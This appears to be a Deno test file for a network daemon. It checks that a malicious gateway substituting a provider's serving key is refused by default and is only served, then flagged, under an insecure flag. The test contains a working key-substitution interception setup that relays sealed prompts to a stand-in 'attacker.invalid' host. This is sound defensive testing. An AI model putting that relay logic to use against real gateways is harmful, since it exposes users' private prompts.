/**
 * Trust anchored by default (issue: "a malicious gateway can substitute its own key and read
 * every prompt"). A gateway lists a registered, bonded verified provider with its own serving
 * key in the ad, serves a key configuration that key endorsed, and relays sealed requests to a
 * provider of its own that holds the matching HPKE key — a complete, working substitution.
 *
 * - A daemon configured with nothing but the network profile (no `NET_EVM_*` variable, the
 *   devnet's profile) checks the ad's serving key against the Registry's trust root and
 *   refuses: nothing is sealed to the attacker's key.
 * - Only with `--insecure-gateway-keys` does it seal to the listed key — and the attacker
 *   reads the prompt. Then the reply's `x-net-verdict` and the `/v1/verdicts` entry say that
 *   the key was only gateway-listed.
 */

import assert from "node:assert/strict";
import OpenAI from "openai";
import { generatePrivateKey, privateKeyToAccount } from "viem/accounts";
import { createGatewayKey, generateKeyPair } from "../../../crypto/mod.ts";
import { parseDaemonConfig } from "../../../daemon/service/config.ts";
import { createDaemon } from "../../../daemon/service/daemon.ts";
import { EchoEngine } from "../../../devnet/engine.ts";
import { startDevnet } from "../../../devnet/network.ts";
import { DevnetProvider } from "../../../devnet/provider.ts";
import { okJson, serve, type TestServer } from "../../_http.ts";

const MODEL = "net/verified/devnet/echo";

/** A daemon from the command line `args` (and no variables), served on a free loopback port. */
async function daemonFrom(args: string[]): Promise<TestServer & { dataDir: string }> {
  const dataDir = await Deno.makeTempDir({ prefix: "net-daemon-" });
  const parsed = parseDaemonConfig([...args, "--data-dir", dataDir], {});
  assert.ok(!parsed.help);
  let handler: (req: Request) => Promise<Response> = () => Promise.resolve(new Response());
  const server = serve((req) => handler(req));
  handler = createDaemon(parsed.config, { port: server.port, log: () => {} }).handler;
  return Object.assign(server, {
    dataDir,
    close: async () => {
      await server.close();
      await Deno.remove(dataDir, { recursive: true });
    },
  });
}

Deno.test("with no setting at all, the verified tier is checked on the devnet profile's chain", () => {
  // What a user gets with no settings at all: the devnet's profile, its chain, checked.
  const parsed = parseDaemonConfig([], { HOME: "/home/ada" }, { os: "linux" });
  assert.ok(!parsed.help);
  assert.equal(parsed.config.insecureGatewayKeys, false);
  assert.deepEqual(parsed.config.network, { name: "devnet", source: "built-in" });
  assert.ok(parsed.config.evm, "the verified tier is checked on chain by default");
});

Deno.test("a gateway listing a substituted key: refused by default, served only with --insecure-gateway-keys, then marked", async () => {
  const stateDir = await Deno.makeTempDir();
  try {
    await using devnet = await startDevnet({
      tokenDelayMs: 0,
      verifiedProviders: 1,
      teeProviders: 0,
      gateways: 1,
      stateDir,
    });
    const victim = devnet.providers[0].address;
    const real = devnet.gateways[0];

    // The attacker: a provider of its own under the victim's address, with its own keys.
    const attacker = await DevnetProvider.create({
      provider: victim,
      servingKey: privateKeyToAccount(generatePrivateKey()),
      tier: "verified",
      endpoint: "http://attacker.invalid",
      engine: new EchoEngine({ tokenDelayMs: 0, servedBy: "the attacker" }),
      key: createGatewayKey(await generateKeyPair(), { keyId: 1 }),
      log: () => {},
    });
    let relayedToAttacker = 0;
    await using gateway = serve(async (req) => {
      const url = new URL(req.url);
      const path = url.pathname;
      if (path === "/v1/gateways") return Response.json({ gateways: [] });
      if (path === "/v1/providers") {
        const answer = await okJson(fetch(`${real}${path}${url.search}`));
        for (const p of answer.providers) p.ad.serving_key = attacker.ad.serving_key;
        return Response.json(answer);
      }
      if (path.endsWith("/key")) {
        return await attacker.handler(new Request("http://attacker.invalid/v1/key"));
      }
      if (path.endsWith("/relay")) {
        relayedToAttacker++;
        return await attacker.handler(
          new Request("http://attacker.invalid/v1/relay", {
            method: "POST",
            headers: req.headers,
            body: await req.arrayBuffer(),
          }),
        );
      }
      return await fetch(`${real}${path}${url.search}`);
    });
    const ask = (daemon: TestServer) =>
      new OpenAI({ baseURL: `${daemon.url}/v1`, apiKey: "unused", maxRetries: 0 }).chat
        .completions.create({
          model: MODEL,
          messages: [{ role: "user", content: "my secret prompt" }],
        }).withResponse();
    const verdicts = async (daemon: TestServer) =>
      (await okJson(fetch(`${daemon.url}/v1/verdicts`))).verdicts;

    // By default (the devnet's profile, no NET_EVM_* variable): refused before sealing.
    await using anchored = await daemonFrom([
      "--network",
      devnet.profilePath!,
      "--gateway",
      gateway.url,
    ]);
    await assert.rejects(ask(anchored), (error: unknown) => {
      assert.ok(error instanceof OpenAI.APIError, String(error));
      assert.equal(error.status, 403);
      assert.equal(error.code, "key_not_vouched");
      return true;
    });
    assert.equal(relayedToAttacker, 0, "a request was sealed to the attacker's key");
    const [refusal] = await verdicts(anchored);
    assert.equal(refusal.outcome, "refused");
    assert.equal(refusal.provider, victim);

    // With the explicit no-chain option: the attacker reads the prompt, and the daemon says so.
    await using insecure = await daemonFrom(["--insecure-gateway-keys", "--gateway", gateway.url]);
    const { data, response } = await ask(insecure);
    assert.equal(relayedToAttacker, 1);
    assert.match(data.choices[0].message.content ?? "", /my secret prompt.*the attacker/);
    assert.match(response.headers.get("x-net-verdict") ?? "", /, gateway-listed key$/);
    const [accepted] = await verdicts(insecure);
    assert.equal(accepted.outcome, "accepted");
    assert.match(accepted.verdict, /, gateway-listed key$/);
  } finally {
    await Deno.remove(stateDir, { recursive: true });
  }
});
